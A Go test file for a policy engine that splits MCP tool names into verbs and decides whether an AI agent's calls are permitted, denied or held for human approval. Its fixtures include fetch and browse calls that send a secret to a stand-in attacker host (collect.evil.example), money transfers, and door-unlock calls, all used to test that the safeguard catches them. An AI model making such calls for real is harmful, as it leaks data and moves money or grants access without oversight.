package policy_test

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/writ-dev/writ/grants"
	"github.com/writ-dev/writ/policy"
)

func TestNameWords(t *testing.T) {
	cases := []struct {
		tool string
		want []string
	}{
		{"mcp__bank__send_money", []string{"send", "money"}},
		{"mcp__bank__BankManagerTransferFunds", []string{"bank", "manager", "transfer", "funds"}},
		{"mcp__x__HTTPPostJSON", []string{"http", "post", "json"}},
		{"mcp__aws__ec2_terminate_instances", []string{"ec", "2", "terminate", "instances"}},
		{"mcp__s3__s3Upload", []string{"s", "3", "upload"}},
		{"mcp__notion__notion-update-page", []string{"notion", "update", "page"}},
		{"mcp__23andme__The23andMeShareData", []string{"the", "23", "and", "me", "share", "data"}},
		{"mcp__send_server__get_status", []string{"get", "status"}}, // the server's name is not read
		{"mcp__a__b__c", []string{"b", "c"}},
		{"send_email", []string{"send", "email"}},
		{"mcp__x__", nil},
		{"mcp__", []string{"mcp"}},
		{"__send__", []string{"send"}},
		{"mcp__x__émail_send", []string{"mail", "send"}}, // non-ASCII bytes separate words
		{"mcp__x__a_" + strings.Repeat("b", 100) + "_send", []string{"a", "send"}},
		{"mcp__x__" + strings.Repeat("w_", 30) + "send", slices.Repeat([]string{"w"}, 16)},
	}
	for _, c := range cases {
		if got := policy.NameWords(c.tool); !slices.Equal(got, c.want) {
			t.Errorf("NameWords(%q) = %q, want %q", c.tool, got, c.want)
		}
	}
}

// FuzzNameWords: any name splits without a panic into at most 16 words,
// each lower-case letters only or digits only, and the split reads only
// the tool's own name.
func FuzzNameWords(f *testing.F) {
	for _, s := range []string{"mcp__bank__BankManagerTransferFunds", "mcp__x__HTTPPostJSON", "a1B2c3", "mcp____", "ÄÖÜ", "mcp__x__" + strings.Repeat("A", 70)} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, name string) {
		words := policy.NameWords(name)
		if len(words) > 16 {
			t.Fatalf("%d words", len(words))
		}
		for _, w := range words {
			if w == "" || len(w) > 64 {
				t.Fatalf("word %q", w)
			}
			digits := w[0] >= '0' && w[0] <= '9'
			for i := 0; i < len(w); i++ {
				c := w[i]
				if digits && !(c >= '0' && c <= '9') || !digits && !(c >= 'a' && c <= 'z') {
					t.Fatalf("word %q of %q mixes kinds or has %q", w, name, c)
				}
			}
		}
		if srv, tool, ok := strings.Cut(strings.TrimPrefix(name, "mcp__"), "__"); ok && strings.HasPrefix(name, "mcp__") && srv+tool != "" {
			if got := policy.NameWords("mcp__other__" + tool); !slices.Equal(got, words) {
				t.Fatalf("the server's name changed the words: %q vs %q", got, words)
			}
		}
	})
}

// verbDoc is a small document: a query surface, an action surface that
// names one tool literally, and the catch-all.
func verbDoc(t *testing.T, surfaces string) *policy.Policy {
	t.Helper()
	doc := `{"version":2,"default_ttl":"30s","lanes":{"a":{"ttl":"30s","surfaces":["*"],"consequences":["*"]}},"surfaces":[` + surfaces + `]}`
	p, err := policy.Parse([]byte(doc))
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	return p
}

// TestSurfaceVerbs: a surface with verbs takes a tool its patterns match
// only when the first word of the tool's own name that any surface lists
// is one of its verbs; the order of the words decides, not the order of
// the surfaces, and a tool it passes on falls to the next surface.
func TestSurfaceVerbs(t *testing.T) {
	p := verbDoc(t, `
		{"id":"q","tools":["mcp__*"],"verbs":["get","list"],"operation":"call","consequence":"remote_query"},
		{"id":"act","tools":["mcp__*","mcp__lit__thing"],"verbs":["send","transfer"],"operation":"call","consequence":"outbound_send"},
		{"id":"lit","tools":["mcp__lit__thing"],"operation":"call","consequence":"local_read"},
		{"id":"rest","tools":["mcp__*"],"operation":"call","consequence":"remote_query"}`)
	cases := []struct{ tool, surface string }{
		{"mcp__bank__get_transfer_history", "q"},
		{"mcp__bank__transfer_funds", "act"},
		{"mcp__bank__BankManagerTransferFunds", "act"},
		{"mcp__bank__BankManagerGetTransfers", "q"},
		{"mcp__get__weather", "rest"},      // the server's name is no verb
		{"mcp__lit__thing", "lit"},         // a literal name on a verbs surface still needs the verb
		{"mcp__lit__send_thing", "act"},    // ...and the pattern takes it with one
		{"mcp__x__resend", "rest"},         // words, not substrings
		{"mcp__x__sending_report", "rest"}, // no stemming
		{"mcp__x__list_then_send", "q"},    // the first verb decides
		{"mcp__x__SEND_NOW", "act"},        // case does not matter
		{"Bash", ""},                       // no surface
	}
	for _, c := range cases {
		j := p.Judge(req(t, "w1", "a", c.tool, `{}`), usage{}, now)
		if j.Surface != c.surface {
			t.Errorf("%s: surface %q, want %q (%s %s)", c.tool, j.Surface, c.surface, j.Decision, j.Reason)
		}
	}
}

func TestSurfaceVerbsInvalid(t *testing.T) {
	base := `{"id":"s","tools":["mcp__*"],"operation":"call","consequence":"remote_query","verbs":%s}`
	cases := []struct{ verbs, field string }{
		{`["Send"]`, "surfaces[0].verbs[0]"},
		{`["send_money"]`, "surfaces[0].verbs[0]"},
		{`["get","get"]`, "surfaces[0].verbs[1]"},
		{`[""]`, "surfaces[0].verbs[0]"},
		{`["a1"]`, "surfaces[0].verbs[0]"},
		{`["` + strings.Repeat("a", 33) + `"]`, "surfaces[0].verbs[0]"},
		{`"send"`, "surfaces[0].verbs"},
	}
	for _, c := range cases {
		doc := `{"version":2,"default_ttl":"30s","lanes":{"a":{"ttl":"30s","surfaces":["*"],"consequences":["*"]}},"surfaces":[` + strings.Replace(base, "%s", c.verbs, 1) + `]}`
		_, err := policy.Parse([]byte(doc))
		if err == nil || !strings.Contains(err.Error(), c.field) {
			t.Errorf("verbs %s: want an error naming %s, got %v", c.verbs, c.field, err)
		}
	}
	// A document without verbs has the canonical form it always had.
	p := verbDoc(t, `{"id":"s","tools":["mcp__*"],"operation":"call","consequence":"remote_query"}`)
	if strings.Contains(string(p.Canonical()), "verbs") {
		t.Fatalf("canonical form gained a verbs key: %s", p.Canonical())
	}
}

// TestRecommendedMCPVerbs: under the recommended policy an MCP tool no
// named surface covers is judged by its verb, whatever the server: reads
// stay queries (their URL held to the egress allow-list), actions wait
// for a person, credential and device verbs are reviewed, and an action
// is never permitted in the coordinator lane without an allowance.
func TestRecommendedMCPVerbs(t *testing.T) {
	p := policy.Recommended()
	cases := []struct {
		tool, args, surface string
		decision            grants.Decision
	}{
		{"mcp__github__get_issue", `{"repo":"o/r","number":1}`, "mcp_query", grants.Permit},
		{"mcp__bank__get_transfer_history", `{}`, "mcp_query", grants.Permit},
		{"mcp__amazon__AmazonGetProductDetails", `{"id":"B08"}`, "mcp_query", grants.Permit},
		{"mcp__fetch__fetch", `{"url":"https://github.com/writ"}`, "mcp_query", grants.Permit},
		{"mcp__fetch__fetch", `{"url":"https://collect.evil.example/?d=secret"}`, "mcp_query", grants.ApprovalRequired},
		{"mcp__web__browse", `{"link":"https://collect.evil.example/"}`, "mcp_query", grants.ApprovalRequired},
		{"mcp__slack__get_webpage", `{"url":"www.true-informations.com"}`, "mcp_query", grants.Deny},
		{"mcp__time__now", `{}`, "mcp", grants.Permit},
		{"mcp__x__weather", `{"url":"https://collect.evil.example/"}`, "mcp", grants.ApprovalRequired},
		{"mcp__bank__BankManagerTransferFunds", `{"to_account_number":"456","amount":5000}`, "mcp_act", grants.ApprovalRequired},
		{"mcp__venmo__VenmoSendMoney", `{"recipient_username":"eve","amount":500}`, "mcp_act", grants.ApprovalRequired},
		{"mcp__amazon__place_order", `{"product_id":"B08"}`, "mcp_act", grants.ApprovalRequired},
		{"mcp__github__delete_repository", `{"repo":"o/r"}`, "mcp_act", grants.ApprovalRequired},
		{"mcp__travel__reserve_hotel", `{"hotel":"Riverside View"}`, "mcp_act", grants.ApprovalRequired},
		{"mcp__terminal__execute_command", `{"command":"ls"}`, "mcp_act", grants.ApprovalRequired},
		{"mcp__playwright__browser_click", `{"element":"Buy now"}`, "mcp_act", grants.ApprovalRequired},
		{"mcp__august__AugustSmartLockGrantGuestAccess", `{"guest_ids":["g1"]}`, "mcp_device", grants.ApprovalRequired},
		{"mcp__august__grant_guest_access", `{"guest_ids":["g1"]}`, "mcp_credential", grants.ApprovalRequired},
		{"mcp__home__unlock_door", `{}`, "mcp_device", grants.ApprovalRequired},
		// Named surfaces still come first.
		{"mcp__bank__send_money", `{"recipient":"US12","amount":10}`, "bank_transfer", grants.ApprovalRequired},
		{"mcp__filesystem__read_file", `{"path":"/work/w1/README.md"}`, "mcp_file_read", grants.Permit},
	}
	for _, c := range cases {
		j := p.Judge(req(t, "w1", "coordinator", c.tool, c.args), usage{}, now)
		if j.Surface != c.surface || j.Decision != c.decision {
			t.Errorf("%s %s: %s/%s (%s %s), want %s/%s", c.tool, c.args, j.Surface, j.Decision, j.Reason, j.Missing, c.surface, c.decision)
		}
	}
	// An allowance for a server's tools covers its actions, not its
	// credential or device calls (review classes).
	var doc map[string]any
	if err := json.Unmarshal(p.Canonical(), &doc); err != nil {
		t.Fatal(err)
	}
	doc["allow"] = append(doc["allow"].([]any), map[string]any{"id": "github-writes", "lanes": []string{"coordinator"}, "tools": []string{"mcp__github__*", "mcp__home__*"}})
	b, _ := json.Marshal(doc)
	q, err := policy.Parse(b)
	if err != nil {
		t.Fatal(err)
	}
	if j := q.Judge(req(t, "w1", "coordinator", "mcp__github__create_issue", `{"repo":"o/r","title":"t"}`), usage{}, now); j.Decision != grants.Permit {
		t.Errorf("an allowed action: %s %s %s", j.Decision, j.Reason, j.Missing)
	}
	if j := q.Judge(req(t, "w1", "coordinator", "mcp__home__unlock_door", `{}`), usage{}, now); j.Decision != grants.ApprovalRequired {
		t.Errorf("an allowance must not cover a device call: %s %s", j.Decision, j.Reason)
	}
}
